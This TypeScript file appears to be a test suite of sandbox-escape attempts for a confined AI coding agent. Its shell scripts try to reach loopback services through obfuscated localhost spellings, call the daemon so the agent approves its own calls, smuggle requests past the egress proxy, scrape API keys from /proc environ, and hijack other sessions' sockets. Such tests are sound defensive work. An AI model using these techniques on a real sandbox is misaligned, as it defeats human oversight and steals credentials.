import type { Attack, AttackContext } from '../attack.ts'

const threat = 'uses what listens on this machine: databases, other agents, the daemon itself'

/** The proxy is of no help: what is asked for is asked for directly. */
function connects(name: string, host: (context: AttackContext) => string): Attack {
  return {
    name: `connects to ${name}`,
    threat,
    script: (context) => `need curl\ncurl -s -m 5 --noproxy '*' "http://${host(context)}:${context.port}/${context.tag}"`,
    withoutWall: 'everybody',
  }
}

/** Spellings of this machine that one program takes for a name, another for an address. */
const spellings = [
  [
    '127.0.0.1',
    'localhost',
    'LOCALHOST.',
    'x.localhost',
    '127.1',
    '127.0.1',
    '2130706433',
    '0x7f.1',
    '0x7f000001',
    '017700000001',
    '0177.0.0.1',
  ],
  [
    '0',
    '0.0.0.0',
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.1]',
    '[::ffff:7f00:1]',
    '[0:0:0:0:0:0:0:1]',
    '[64:ff9b::7f00:1]',
    '127.0.0.1.',
    '%3127.0.0.1',
  ],
  ['ip6-localhost', 'host.docker.internal', 'metadata.google.internal'],
].flat()

/** Says something to the egress proxy, word by word; what it answers is printed. */

const ask = `need bash
ask() { bash -c 'exec 9<>/dev/tcp/127.0.0.1/3128 || exit; printf "%b" "$1" >&9; timeout 3 cat <&9' sh "$1"; echo; }`

export const sockets: readonly Attack[] = [
  connects('the loopback address', () => '127.0.0.1'),
  connects('the loopback address of IPv6', () => '[::1]'),
  connects('localhost', () => 'localhost'),
  connects('another loopback address', () => '127.1.2.3'),
  connects('the address of nothing', () => '0.0.0.0'),
  connects('an address of the machine', ({ hostAddress }) => hostAddress),
  {
    name: 'sends a datagram',
    threat,
    script: ({ udpPort, tag }) =>
      `need perl\nperl -MIO::Socket::INET -e 'IO::Socket::INET->new(Proto=>"udp",PeerAddr=>"127.0.0.1:${udpPort}")->send("${tag}")'; sleep 0.2`,
    withoutWall: 'everybody',
  },
  {
    name: 'connects to a socket in the file system',
    threat,
    script: ({ sockets: { outside }, tag }) => `need curl\ncurl -s -m 5 --unix-socket "${outside}" http://x/${tag}`,
    withoutWall: 'everybody',
  },
  {
    name: 'connects to a socket that was open in the workspace',
    threat,
    script: ({ sockets: { early }, tag }) => `need curl\ncurl -s -m 5 --unix-socket "${early}" http://x/${tag}`,
    withoutWall: 'everybody',
  },
  {
    name: 'connects to a socket that was opened in the workspace later',
    threat,
    script: ({ sockets: { late }, tag }) => `need curl\ncurl -s -m 5 --unix-socket "${late}" http://x/${tag}`,
    withoutWall: 'everybody',
    gap: { reason: 'What a program of the user opens in the workspace while the agent runs is in the workspace.' },
  },
  {
    name: 'connects to an abstract socket',
    threat,
    script: ({ sockets: { abstract }, tag }) => `need curl\ncurl -s -m 5 --abstract-unix-socket "${abstract}" http://x/${tag}`,
    withoutWall: 'everybody',
  },
  {
    name: 'calls the daemon',
    threat: 'approves its own calls',
    script: ({ daemonUrl, hostAddress, reached }) => {
      const { port } = new URL(daemonUrl)
      const places = [
        daemonUrl,
        `http://localhost:${port}`,
        `http://[::1]:${port}`,
        `http://0.0.0.0:${port}`,
        `http://${hostAddress}:${port}`,
      ]
      const tries = places.map((place) => `curl -s -m 5 --noproxy '*' -o /dev/null "${place}/approvals" && echo ${reached}`)
      return `need curl\n${tries.join('\n')}`
    },
    withoutWall: 'everybody',
  },
  {
    name: 'calls the daemon on its socket',
    threat: 'approves its own calls',
    script: ({ sockets: { daemon }, reached }) =>
      `need curl\ncurl -s -m 5 -o /dev/null --unix-socket "${daemon}" http://localhost/status && echo ${reached}`,
    withoutWall: 'everybody',
  },
  {
    name: 'calls the daemon through the egress proxy',
    threat: 'approves its own calls',
    script: ({ daemonUrl, reached }) =>
      `need curl\nfor code in $(curl -s -m 5 -o /dev/null -w '%{http_code}' -x http://127.0.0.1:3128 "${daemonUrl}/approvals"; curl -s -m 5 -p -x http://127.0.0.1:3128 -o /dev/null -w ' %{http_code}' "${daemonUrl}/approvals"); do case $code in 000|403) ;; *) echo ${reached};; esac; done`,
    withoutWall: 'untried',
  },
  {
    name: 'connects to this machine through the egress proxy, however it is spelled',
    threat,
    script: ({ port, tag, hostAddress }) =>
      [
        ask,
        ...[...spellings, hostAddress].flatMap((host) => [
          `ask 'GET http://${host.replace('%', '%%')}:${port}/${tag} HTTP/1.1\\r\\nHost: ${host}:${port}\\r\\nConnection: close\\r\\n\\r\\n'`,
          `ask 'CONNECT ${host}:${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\nGET /${tag} HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n'`,
        ]),
      ].join('\n'),
    withoutWall: 'untried',
  },
  {
    name: 'smuggles a second request past the egress proxy',
    threat,
    script: ({ port, tag }) =>
      [
        ask,
        `ask 'GET http://127.0.0.1:${port}/${tag} HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://127.0.0.1:${port}/${tag} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n'`,
        `ask 'GET /${tag} HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\n\\r\\n'`,
        `ask 'GET http://example.com@127.0.0.1:${port}/${tag} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n'`,
        `ask 'GET http://127.0.0.1:${port}#@example.com/${tag} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n'`,
        `ask 'GET http://example.com\\\\@127.0.0.1:${port}/${tag} HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n'`,
      ].join('\n'),
    withoutWall: 'untried',
  },
  {
    name: 'tunnels to ports that are no web through the egress proxy',
    threat: 'mail, shells and databases elsewhere',
    script: ({ reached }) =>
      [
        ask,
        ...[22, 25, 53, 3306, 5432, 0, 65_536].map(
          (port) => `ask 'CONNECT example.com:${port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n' | grep -q ' 200 ' && echo ${reached}`,
        ),
      ].join('\n'),
    withoutWall: 'untried',
  },
  {
    name: 'makes raw sockets',
    threat: 'forges packets and hears those of others',
    script: ({ reached }) =>
      `need perl\nperl -e 'exit(socket(my $s, 2, 3, 1) ? 0 : 1)' && echo ${reached}; perl -e 'exit(socket(my $s, 17, 3, 0) ? 0 : 1)' && echo ${reached}`,
    withoutWall: 'root',
  },
  {
    name: 'has a network beside loopback',
    threat: 'reaches anybody',
    script: ({ reached }) =>
      `tail -n +3 /proc/net/dev | grep -v '^ *lo:' && echo ${reached}; tail -n +2 /proc/net/route | grep . && echo ${reached}`,
    withoutWall: 'everybody',
  },
  {
    name: 'asks its gateway for something else than the model',
    threat: 'uses the key for what it was not given for',
    script: ({ reached }) =>
      [
        'need curl',
        'key=$(cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -ao "codesdkd-placeholder-[0-9a-f]*" | head -n 1)',
        '[ -n "$key" ] || key=$(grep -rhao "codesdkd-placeholder-[0-9a-f]*" "$HOME" "$(dirname "$HOME")" 2>/dev/null | head -n 1)',
        '[ -n "$key" ] || exit 97',
        'for header in "x-none: x" "authorization: Bearer $key" "x-api-key: $key" "x-goog-api-key: $key"; do',
        `  for path in / /v1/models /../v1/files /model/../../x /model/v1/files /model/v1/%2e%2e/files /model/v1/organizations /model//v1/responses /approvals /sessions; do`,
        `    code=$(curl -s -m 5 --path-as-is --noproxy '*' -o /dev/null -w '%{http_code}' -H "$header" "http://127.0.0.1:8080$path")`,
        `    case $code in 000|4??) ;; *) echo "$code $path"; echo ${reached};; esac`,
        '  done',
        'done',
        `code=$(curl -s -m 5 --noproxy '*' -o /dev/null -w '%{http_code}' -H 'Host: example.com' -H "authorization: Bearer $key" http://127.0.0.1:8080/model/v1/models)`,
        `[ "$code" = 403 ] || [ "$code" = 404 ] || echo ${reached}`,
      ].join('\n'),
    withoutWall: 'untried',
  },
  {
    name: 'takes the place of its own gateway',
    threat: 'hears what another agent says to its model',
    script: ({ reached, tag }) =>
      [
        'cd /run/codesdkd || exit',
        `for f in gateway.sock egress.sock; do [ -S $f ] || echo ${reached}; rm -f $f && echo ${reached}; mv $f x && echo ${reached}; ln -sf /tmp/x $f && echo ${reached}; chmod 777 $f && echo ${reached}; done`,
        `echo x > ${tag} && echo ${reached}; mv /run/codesdkd /run/other && echo ${reached}; rm -f /run/codesdkd-relay && echo ${reached}`,
        `mkdir -p /run/codesdkd/../codesdkd2/${tag} && true`,
      ].join('\n'),
    withoutWall: 'untried',
  },
  {
    name: "finds other sessions' sockets",
    threat: "uses another session's key",
    script: ({ dataDir, reached }) =>
      `need curl\nfor s in "${dataDir}"/walls/*/*.sock /proc/[0-9]*/root"${dataDir}"/walls/*/*.sock /run/codesdkd/../*/*.sock; do case $s in *'*'*|/run/codesdkd/../codesdkd/*) ;; *) curl -s -m 5 -o /dev/null --unix-socket "$s" http://x/ && echo ${reached};; esac; done`,
    withoutWall: 'untried',
  },
]
